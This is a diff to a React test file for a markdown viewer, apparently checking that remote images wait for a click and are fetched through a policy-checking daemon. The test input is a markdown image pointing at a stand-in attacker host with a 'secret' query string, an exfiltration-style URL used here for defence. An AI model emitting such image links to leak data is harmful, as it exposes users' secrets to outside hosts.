@@ -1,8 +1,9 @@
 // SPDX-License-Identifier: MIT
+import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
 import { render, screen } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { expect, test } from 'vitest';
-import { expectAccessible } from '../../test/page';
+import { answer, asked, expectAccessible, problem, startFakeDaemon } from '../../test/page';
 import { splitBlocks } from './markdown-blocks';
 import { MarkdownView } from './markdown-view';
 
@@ -27,11 +28,23 @@ test.each([
   expect(container.querySelector('a, script, img, button, iframe, style')).toBeNull();
 });
 
-test('a remote picture waits for a click', async () => {
-  const { container } = render(<MarkdownView text="![chart](https://evil.example/c.png?secret)" />);
+test('a remote picture waits for a click, and the daemon fetches it', async () => {
+  startFakeDaemon();
+  answer('POST /api/v1/images/fetch', problem(403, 'PRYX-1403', 'The policy denies it.'));
+  const { container } = render(
+    <QueryClientProvider client={new QueryClient()}>
+      <MarkdownView text="![chart](https://evil.example/c.png?secret)" session="ses_1" message="msg_1" />
+    </QueryClientProvider>,
+  );
   expect(container.querySelector('img')).toBeNull();
   await userEvent.click(screen.getByRole('button', { name: /evil\.example/ }));
-  expect(container.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
+  expect(await screen.findByText('Not loaded: The policy denies it.')).toBeTruthy();
+  expect(asked[0]?.body).toEqual({
+    url: 'https://evil.example/c.png?secret',
+    session_id: 'ses_1',
+    message_id: 'msg_1',
+  });
+  expect(container.querySelector('img')).toBeNull();
 });
 
 test('code can be copied, tables and lists are what they are', async () => {
